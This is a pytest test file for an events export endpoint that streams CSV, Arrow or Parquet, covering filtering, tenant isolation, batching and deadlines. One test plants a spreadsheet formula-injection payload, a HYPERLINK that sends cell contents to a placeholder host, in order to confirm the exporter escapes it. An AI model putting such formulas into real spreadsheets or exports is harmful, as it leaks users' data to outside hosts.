"""GET /events/export: the events of the list as CSV, Arrow or Parquet."""

import csv
import io
from typing import Any

import h3.api.basic_int as h3
import orjson
import pytest

from analytics.reads import exports
from riskplatform.kernel import extras
from riskplatform.kernel.errors import DeadlineError
from tests.analytics.api.reading import (
    JANUARY,
    START,
    Ask,
    make_reader,
    put,
)

pytestmark = [
    pytest.mark.django_db(databases=["default", "clickhouse"]),
    pytest.mark.usefixtures("empty_event_table", "two_regions"),
]


@pytest.fixture
def ask(db: None) -> Ask:
    return make_reader("events")


@pytest.mark.parametrize(
    ("query", "count"),
    [
        (JANUARY, 6),
        (f"{JANUARY}&event_type=arson", 0),
        (f"{JANUARY}&cell={h3.latlng_to_cell(41.8, -87.6, 8):x}", 2),
        ("from=2026-01-01T00:00:01Z&to=2026-01-01T00:00:02Z", 2),
    ],
)
def test_an_export_is_filtered(ask: Ask, query: str, count: int) -> None:
    put(6)

    assert len(read_csv(ask(f"/export?region=chicago&{query}"))) == count


def test_an_export_leaves_out_what_others_sent(ask: Ask) -> None:
    for source in ("city", "acme/feed", "rival/feed"):
        put(1, source=source)

    rows = read_csv(ask(f"/export?region=chicago&{JANUARY}"))

    assert sorted(row["source"] for row in rows) == ["acme/feed", "city"]


def read_csv(response: Any) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_holds_what_the_list_holds(ask: Ask) -> None:
    put(2)

    rows = read_csv(ask(f"/export?region=chicago&{JANUARY}", Accept="text/csv"))

    by_id = {row["external_id"]: row for row in rows}
    assert by_id["city-001"]["occurred_at"] == "2026-01-01T00:00:00Z"
    assert by_id["city-001"]["severity"] == "1.5"
    assert by_id["city-000"]["severity"] == ""
    assert by_id["city-000"]["attributes"] == '{"by":"hand"}'


def test_no_cell_of_a_csv_is_a_formula(ask: Ask) -> None:
    formula = '=HYPERLINK("http://a.b/?x="&A1,"Open")'
    put(1, source="@sum", event_type=formula)

    (row,) = read_csv(ask(f"/export?region=chicago&{JANUARY}&format=csv"))

    assert row["event_type"] == f"'{formula}"
    assert row["external_id"] == "'@sum-000"
    assert row["source"] == "'@sum"
    assert row["lon"] == "-87.6"


@pytest.mark.parametrize("kind", ["arrow", "parquet"])
def test_arrow_and_parquet_hold_the_same_rows(ask: Ask, kind: str) -> None:
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    put(20)

    response: Any = ask(f"/export?region=chicago&{JANUARY}&format={kind}")
    content = b"".join(response.streaming_content)

    source = io.BytesIO(content)
    table = (
        pa.ipc.open_stream(source).read_all()
        if kind == "arrow"
        else (pq.read_table(source))
    )
    assert table.num_rows == 20
    assert min(table["external_id"].to_pylist()) == "city-000"
    assert set(table["occurred_at"].to_pylist()) >= {START}


def test_format_that_is_not_installed_is_a_problem(
    ask: Ask, monkeypatch: pytest.MonkeyPatch
) -> None:
    def missing(name: str) -> None:
        raise ImportError(name)

    monkeypatch.setattr(extras, "import_module", missing)

    response = ask(f"/export?region=chicago&{JANUARY}&format=parquet")

    problem = orjson.loads(response.content)
    assert (response.status_code, problem["code"]) == (406, "format_not_available")
    assert problem["detail"].endswith("Ask for CSV.")


def test_a_batch_of_an_export_ends_where_its_texts_are_long(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(exports, "BATCH_CHARS", 250)
    rows = [(*[None] * 3, 1, *[None] * 7, {"text": "x" * 100}) for _ in range(7)]
    pieces = list(exports.export_pieces("csv", rows))
    assert [piece.count(b"\n") for piece in pieces] == [1, 3, 3, 1]


@pytest.mark.parametrize("form", ["csv", "arrow"])
def test_an_export_whose_time_is_up_is_not_taken_for_whole(
    ask: Ask, form: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    put(6)
    monkeypatch.setattr(exports, "BATCH_ROWS", 2)
    clock_s = [0.0]
    monkeypatch.setattr("perf.deadlines.time.monotonic", lambda: clock_s[0])
    answer = ask(f"/export?region=chicago&{JANUARY}&format={form}")
    stream = iter(answer.streaming_content)
    pieces = [next(stream), next(stream)]
    clock_s[0] = 1_000.0
    if form == "csv":
        pieces += stream
        assert pieces[-1].startswith(b"# INCOMPLETE: The time for this request is up.")
        assert sum(piece.count(b"city-") for piece in pieces) == 2
    else:
        with pytest.raises(DeadlineError):
            list(stream)
